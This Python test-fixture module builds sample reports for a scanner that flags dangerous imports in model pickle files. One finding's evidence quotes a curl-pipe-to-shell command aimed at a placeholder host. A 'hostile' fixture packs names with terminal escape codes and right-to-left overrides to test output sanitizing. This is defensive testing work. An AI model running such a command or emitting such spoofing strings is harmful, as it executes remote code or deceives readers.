"""Reports as audits write them, built by hand: one for each thing that a reader should see."""

from __future__ import annotations

from dataclasses import dataclass, replace

from hubaudit.model import (
    Comparison,
    Confidence,
    FileReport,
    Finding,
    GlobalUse,
    HubScan,
    LoadRole,
    NameClass,
    Opinion,
    ReadHow,
    RepoRef,
    RepoReport,
    ScannerVerdict,
    Severity,
    TensorDifference,
    Tool,
    Unread,
    Verdict,
)

COMMIT = "0123456789abcdef0123456789abcdef01234567"
SHA256 = "ab" * 32
TOOL = Tool("hubaudit", "0.1.0", "cd" * 32, "12" * 32)
ENDPOINT = "https://huggingface.co"
RTL = "\u202e"


@dataclass(frozen=True)
class StubRule:
    """As much of a rule as a report asks for."""

    id: str
    advice: str
    summary: str = "A pickle calls what it should not."
    worst: Severity = Severity.CRITICAL
    references: tuple[str, ...] = ("CWE-502",)


RULES = (
    StubRule("dangerous-import", "Do not load this file; use the .safetensors file of the commit."),
    StubRule("unlisted-import", "Read the source of what is named here before you load the file."),
    StubRule("broken-pickle", "Ask the owner for a file that was written whole."),
    StubRule("hub-scan", "See the Hub's page of the file."),
)


def repo(repo_id: str = "org/model", **changes: object) -> RepoRef:
    base = RepoRef(repo_id, "model", "main", COMMIT, ENDPOINT)
    return replace(base, **changes)  # type: ignore[arg-type]


def file(path: str, read: ReadHow = ReadHow.CACHE, size: int = 4_100_000) -> FileReport:
    return FileReport(
        path=path,
        size=size,
        sha256=SHA256 if read is ReadHow.CACHE else None,
        blob_id="ef" * 20,
        format="torch-zip" if read is ReadHow.CACHE else "text",
        load_role=LoadRole.LOADED if read is ReadHow.CACHE else LoadRole.NEVER,
        read=read,
        verified=True if read is ReadHow.CACHE else None,
        hub_scan=None,
        load_reason="transformers opens it" if read is ReadHow.CACHE else "no loader opens it",
    )


def finding(path: str = "pytorch_model.bin", **changes: object) -> Finding:
    base = Finding(
        rule="dangerous-import",
        severity=Severity.CRITICAL,
        confidence=Confidence.HIGH,
        path=path,
        member="archive/data.pkl",
        offset=214,
        message="calls os.system, which runs a shell command",
        evidence="os.system('curl -s https://example.invalid/x.sh | sh')",
        references=("CWE-502", "AML.T0010.003"),
    )
    return replace(base, **changes)  # type: ignore[arg-type]


def note(path: str) -> Finding:
    return finding(
        path,
        rule="hub-scan",
        severity=Severity.INFO,
        member=None,
        offset=None,
        message="the Hub has no verdict on this file yet: queued",
        evidence="",
    )


def ordinary() -> RepoReport:
    return RepoReport(
        tool=TOOL,
        repo=repo(),
        verdict=Verdict.PASS,
        summary="every pickle was read to its end and names nothing dangerous or unlisted",
        files=(
            file("pytorch_model.bin"),
            file("training_args.bin", size=3_900),
            file("model.safetensors", ReadHow.HEADER),
            file("config.json", ReadHow.HEADER, 700),
            file("README.md", ReadHow.NONE, 1_000),
        ),
        globals=(
            GlobalUse(
                "pytorch_model.bin",
                "archive/data.pkl",
                "torch._utils",
                "_rebuild_tensor_v2",
                NameClass.INERT,
                199,
            ),
            GlobalUse(
                "pytorch_model.bin",
                "archive/data.pkl",
                "collections",
                "OrderedDict",
                NameClass.INERT,
                1,
            ),
        ),
    )


def malicious() -> RepoReport:
    scan = HubScan(
        "unsafe",
        (
            ScannerVerdict("protectAiScan", "unsafe", "This file has an unsafe import"),
            ScannerVerdict("avScan", "queued"),
        ),
    )
    return replace(
        ordinary(),
        repo=repo("evil/model"),
        verdict=Verdict.FAIL,
        summary="loading it would run a shell command",
        files=(
            replace(file("pytorch_model.bin"), hub_scan=scan),
            file("model.safetensors", ReadHow.HEADER),
        ),
        findings=(note("pytorch_model.bin"), finding()),
    )


def sharded() -> RepoReport:
    shards = [f"pytorch_model-{n:05}-of-00012.bin" for n in range(1, 13)]
    calls = [
        finding(path, member=f"{path[:-4]}/data.pkl", offset=200 + number)
        for number, path in enumerate(shards)
    ]
    return replace(
        malicious(),
        files=tuple(file(path) for path in shards),
        findings=(*calls, *(note(path) for path in ("optimizer.pt", *shards))),
    )


def crowded() -> RepoReport:
    """More findings than a screen holds, no two of them alike."""
    names = ["alpha", "beta", "gamma", "delta", "epsilon", "zeta", "eta", "theta", "iota", "kappa"]
    return replace(
        malicious(),
        findings=tuple(
            finding(
                rule="unlisted-import",
                severity=Severity.HIGH,
                message=f"calls {name}.run, which no list knows",
                evidence=f"{name}.run(b'...')",
            )
            for name in names
        ),
    )


def for_review() -> RepoReport:
    return replace(
        ordinary(),
        repo=repo("org/data", repo_type="dataset", revision="v1.0"),
        verdict=Verdict.REVIEW,
        summary="a person should look at 1 finding",
        findings=(
            finding(
                "training_args.bin",
                rule="unlisted-import",
                severity=Severity.MEDIUM,
                message="constructs trl.DPOConfig, which no list knows",
                evidence="trl.trainer.dpo_config.DPOConfig.__new__(…)",
            ),
        ),
        comparisons=(
            Comparison(
                *("pytorch_model.bin", "model.safetensors", "equal", "sampled", 199),
                tensors_read=12,
                bytes_read=262_144,
                bytes_total=4_000_000,
                notes=("cast F32→BF16: 199 tensors, 12 of them compared",),
            ),
            Comparison(
                *("b.bin", "b.safetensors", "differs", "full", 3, ("w",), (), ("head.weight",)),
                differences=(TensorDifference("head.weight", "shape [2] in the pickle, [3] in …"),),
            ),
        ),
    )


def incomplete() -> RepoReport:
    return replace(
        ordinary(),
        verdict=Verdict.INCOMPLETE,
        summary="1 file that can execute was not read to its end",
        unread=(
            Unread("pytorch_model.bin", "archive/data.pkl", "the pickle ends in its 12th opcode"),
            Unread("model.7z", None, "7z archives need the extra hubaudit[archives]"),
        ),
        files=(*ordinary().files, file("model.7z", ReadHow.NONE)),
    )


def local() -> RepoReport:
    return replace(
        malicious(),
        repo=RepoRef("weights.pkl", "local", None, None, None),
        files=(file("weights.pkl", ReadHow.LOCAL, 312),),
        findings=(finding("weights.pkl", member=None, offset=0),),
    )


def opinionated() -> RepoReport:
    """With what other scanners say beside it."""
    file = "pytorch_model.bin"
    return replace(
        malicious(),
        opinions=(
            Opinion("picklescan", "1.0.5", file, "flagged", "dangerous import os system"),
            Opinion("picklescan", "1.0.5", "other.bin", "unflagged"),
            Opinion("fickling", "0.1.12", file, "skipped", "it does not read torch-zip"),
            Opinion("modelscan", "0.8.8", file, "timeout", "it did not end in time"),
            Opinion("modelaudit", None, "", "absent", "it is not installed"),
        ),
    )


def hostile() -> RepoReport:
    """Everything that comes from a repository tries to leave its place."""
    name = f"a\x1b[2J\x1b]0;owned\x07\n PASS {RTL}txt.bin[bold red]x[/]\udc80\x9b31m\u200b\r\x7f"
    return replace(
        ordinary(),
        repo=repo("org/[red]model\x1b[31m", revision=f"main{RTL}"),
        verdict=Verdict.FAIL,
        summary=f"loading it would run {name}",
        files=(replace(file(name), format=f"x{RTL}"), file("a" * 2_000, ReadHow.HEADER)),
        findings=(
            finding(name, member=name, message=name, evidence=f"f('{name}')", waived=name),
            finding("deep/" * 400, member="m" * 900, message="x" * 900, evidence="e" * 9_000),
        ),
        globals=(GlobalUse(name, name, name, name, NameClass.UNLISTED, 1),),
        comparisons=(
            Comparison(
                *(name, name, "differs", "full", 1, (name,), (name,), (name,)),
                differences=(TensorDifference(name, name),),
                notes=(name,),
                why=name,
                agreed_at=name,
            ),
            Comparison(name, "b", "not-compared", "full", 1, why=name),
        ),
        unread=(Unread(name, name, name),),
        opinions=(Opinion(name, name, name, "flagged", name),),
    )


ALL = {
    build.__name__: build
    for build in (
        ordinary,
        malicious,
        sharded,
        crowded,
        for_review,
        incomplete,
        local,
        opinionated,
        hostile,
    )
}
